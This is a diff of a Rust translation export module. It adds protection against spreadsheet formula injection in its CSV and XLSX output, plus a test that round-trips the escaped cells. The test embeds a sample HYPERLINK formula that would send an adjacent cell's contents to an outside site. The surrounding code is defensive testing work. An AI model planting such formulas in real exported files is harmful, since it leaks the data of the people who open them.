@@ -6,6 +6,7 @@
 //! export is **stale**: it is reported and not applied, since the translation may no longer say
 //! what the text says. A translation must keep the text's placeholders (`{n}`).
 
+use crate::cell;
 use crate::import::xlsx;
 use crate::import::ImportError;
 use serde_json::{Map, Value};
@@ -157,15 +158,18 @@ pub fn to_xlsx(definition: &Value, language: &str, rows: &[Row]) -> Result<Vec<u
     sheet.set_name("translations").map_err(fail)?;
     let bold = Format::new().set_bold();
     let wrap = Format::new().set_text_wrap();
+    let plain = Format::new();
     for (c, name) in header(definition, language).iter().enumerate() {
         sheet.write_string_with_format(0, c as u16, name, &bold).map_err(fail)?;
     }
     for (r, row) in rows.iter().enumerate() {
         let r = r as u32 + 1;
-        // Strings, always: a text that looks like a formula stays text.
-        sheet.write_string(r, 0, &row.path).map_err(fail)?;
-        sheet.write_string_with_format(r, 1, &row.source, &wrap).map_err(fail)?;
-        sheet.write_string_with_format(r, 2, &row.translation, &wrap).map_err(fail)?;
+        // Strings, and neutralised: a string cell is not run as a formula, but one starting with
+        // `=` becomes one as soon as the translator edits it and presses Enter.
+        for (c, text) in [(0, &row.path), (1, &row.source), (2, &row.translation)] {
+            let format = if c == 0 { &plain } else { &wrap };
+            sheet.write_string_with_format(r, c, cell::neutralise(text), format).map_err(fail)?;
+        }
     }
     sheet.set_column_width(0, 36).map_err(fail)?;
     sheet.set_column_width(1, 60).map_err(fail)?;
@@ -174,19 +178,19 @@ pub fn to_xlsx(definition: &Value, language: &str, rows: &[Row]) -> Result<Vec<u
     book.save_to_buffer().map_err(fail)
 }
 
-/// The rows as CSV (UTF-8, quoted where needed).
-pub fn to_csv(definition: &Value, language: &str, rows: &[Row]) -> Result<String, TranslationError> {
-    let mut writer = csv::Writer::from_writer(Vec::new());
-    let fail = |e: csv::Error| TranslationError::Unwritable(e.to_string());
-    writer.write_record(header(definition, language)).map_err(fail)?;
+/// The rows as CSV (UTF-8, quoted where needed, a text that a spreadsheet would run as a formula
+/// neutralised).
+pub fn to_csv(definition: &Value, language: &str, rows: &[Row]) -> String {
+    let line = |fields: [&str; 3]| fields.map(cell::csv_field).join(",") + "\n";
+    let mut out = line(header(definition, language).each_ref().map(String::as_str));
     for row in rows {
-        writer.write_record([&row.path, &row.source, &row.translation]).map_err(fail)?;
+        out.push_str(&line([&row.path, &row.source, &row.translation]));
     }
-    let bytes = writer.into_inner().map_err(|e| TranslationError::Unwritable(e.to_string()))?;
-    String::from_utf8(bytes).map_err(|e| TranslationError::Unwritable(e.to_string()))
+    out
 }
 
-/// The rows of a spreadsheet (.xlsx, told by its content) or CSV file.
+/// The rows of a spreadsheet (.xlsx, told by its content) or CSV file, with what
+/// [`cell::neutralise`] added on the way out taken off again.
 pub fn read(bytes: &[u8]) -> Result<Vec<Row>, TranslationError> {
     let mut rows = table(bytes)?.into_iter();
     let header = rows.next().ok_or(TranslationError::NoColumns)?;
@@ -196,9 +200,9 @@ pub fn read(bytes: &[u8]) -> Result<Vec<Row>, TranslationError> {
     Ok(rows
         .filter(|r| !r.get(0).trim().is_empty())
         .map(|r| Row {
-            path: r.get(0).trim().to_string(),
-            source: r.get(1).to_string(),
-            translation: r.get(2).to_string(),
+            path: cell::restore(r.get(0).trim()).into_owned(),
+            source: cell::restore(r.get(1)).into_owned(),
+            translation: cell::restore(r.get(2)).into_owned(),
         })
         .collect())
 }
@@ -206,7 +210,7 @@ pub fn read(bytes: &[u8]) -> Result<Vec<Row>, TranslationError> {
 /// The header row of a sheet, if it can be read.
 pub fn header_of(bytes: &[u8]) -> Option<Vec<String>> {
     let header = table(bytes).ok()?.into_iter().next()?;
-    Some((0..header.width()).map(|c| header.get(c).to_string()).collect())
+    Some((0..header.width()).map(|c| cell::restore(header.get(c)).into_owned()).collect())
 }
 
 /// A spreadsheet's first sheet, or a CSV file, as rows of text; one with more rows than
@@ -387,9 +391,41 @@ mod tests {
     }
 
     #[test]
+    fn a_text_a_spreadsheet_would_run_as_a_formula_goes_out_as_text_and_comes_back_as_it_was() {
+        // The review's text, from a third party's SurveyJS file: opened in a spreadsheet, it
+        // would send the cell next to it to another site.
+        let formula = r#"=HYPERLINK("https://example.org/help?x="&A1,"Click for help")"#;
+        let mut definition = survey();
+        definition["pages"][0]["questions"][0]["text"] = json!(formula);
+        definition["intro"] = json!({ "en": "-Hello", "pl": "@Cześć" });
+        definition["completion"] = json!("'quoted'");
+        let rows = export(&definition, "pl").unwrap();
+        let csv = to_csv(&definition, "pl", &rows);
+        let xlsx = to_xlsx(&definition, "pl", &rows).unwrap();
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
+        let mut fields: Vec<String> =
+            reader.records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect();
+        let sheet = &xlsx::sheets(&xlsx).unwrap()[0];
+        fields.extend(sheet.rows.iter().flat_map(|r| (0..3).map(|c| r.get(c).to_string())));
+        assert!(fields.iter().any(|f| f.contains("HYPERLINK")), "{fields:?}");
+        for field in &fields {
+            assert!(!field.starts_with(['=', '+', '-', '@']), "{field:?} would run as a formula");
+        }
+        assert_eq!(read(csv.as_bytes()).unwrap(), rows);
+        assert_eq!(read(&xlsx).unwrap(), rows);
+        // What comes back is what went out: not stale, and the formula is text again.
+        let mut back = rows.clone();
+        back.iter_mut().for_each(|r| r.translation = format!("{} (pl)", r.source));
+        let translated = to_csv(&definition, "pl", &back);
+        let applied = apply(&mut definition, "pl", &read(translated.as_bytes()).unwrap()).unwrap();
+        assert!(applied.stale.is_empty(), "{applied:?}");
+        assert_eq!(definition["pages"][0]["questions"][0]["text"]["pl"], json!(format!("{formula} (pl)")));
+    }
+
+    #[test]
     fn csv_goes_out_and_comes_back() {
         let rows = export(&survey(), "pl").unwrap();
-        let csv = to_csv(&survey(), "pl", &rows).unwrap();
+        let csv = to_csv(&survey(), "pl", &rows);
         assert!(csv.starts_with("path,text (en),translation (pl)\n"));
         assert_eq!(read(csv.as_bytes()).unwrap(), rows);
         let xlsx = to_xlsx(&survey(), "pl", &rows).unwrap();
